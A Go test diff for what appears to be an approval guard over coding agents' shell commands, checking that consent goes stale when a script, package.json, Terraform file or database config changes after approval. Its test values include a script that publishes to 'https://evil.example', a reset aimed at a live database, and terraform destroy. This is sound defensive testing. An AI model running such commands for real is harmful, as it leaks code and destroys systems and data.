@@ -299,3 +299,47 @@ func TestGrantFolderArgument(t *testing.T) {
 		}
 	}
 }
+
+// TestApprovalOfFiles: who agreed to a command once agreed to what it runs and reads then. Another
+// content by the same words is asked about anew.
+func TestApprovalOfFiles(t *testing.T) {
+	for _, tt := range []struct {
+		name, command, file, then string
+		asks                      bool
+	}{
+		{"a script that is run", "bash s.sh", "s.sh", "npm publish --registry https://evil.example\n", true},
+		{"what is published", "npm publish", "package.json", `{"name":"other","version":"1.0.0"}`, true},
+		{"what is planned", "terraform destroy", "main.tf", "# another\n", true},
+		{"settings", "bin/rails db:reset", "config/database.yml", "development: {url: postgres://db.example/live}\n", true},
+		{"beside what is known only when it runs", "terraform destroy -var \"x=$X\"", "main.tf", "# another\n", true},
+		{"what is no matter of it", "terraform destroy", "notes.txt", "done\n", false},
+	} {
+		n, dir := codingAgents(t)
+		n.decide(t, tool("s", "0", "write_file", dir, "path", filepath.Join(dir, "s.sh"), "content", "npm publish\n"))
+		write(t, filepath.Join(dir, "s.sh"), "npm publish\n")
+		ask := func(id string) *act.Action { return tool("s", id, "shell", dir, "command", tt.command) }
+		d, _ := n.decide(t, ask("1"))
+		if d.Effect != act.Escalate {
+			t.Fatalf("%s: %v", tt.name, d.Effect)
+		}
+		if _, err := n.Answer(t.Context(), d.Approval.ID, alice, guard.Reply{Agree: true, Seen: n.seen(t, d)}); err != nil {
+			t.Fatal(err)
+		}
+		write(t, filepath.Join(dir, tt.file), tt.then)
+		switch d, _ = n.decide(t, ask("2")); {
+		case tt.asks && (d.Effect != act.Escalate || !slices.Contains(codesOf(d), "approval.outdated")):
+			t.Errorf("%s: %v %v", tt.name, d.Effect, codesOf(d))
+		case !tt.asks && d.Effect != act.Allow:
+			t.Errorf("%s: %v %v", tt.name, d.Effect, codesOf(d))
+		}
+		if !tt.asks {
+			continue
+		}
+		if _, err := n.Answer(t.Context(), d.Approval.ID, alice, guard.Reply{Agree: true, Seen: n.seen(t, d)}); err != nil {
+			t.Fatal(err)
+		}
+		if d, _ = n.decide(t, ask("3")); d.Effect != act.Allow {
+			t.Errorf("%s, when it was agreed to anew: %v %v", tt.name, d.Effect, codesOf(d))
+		}
+	}
+}
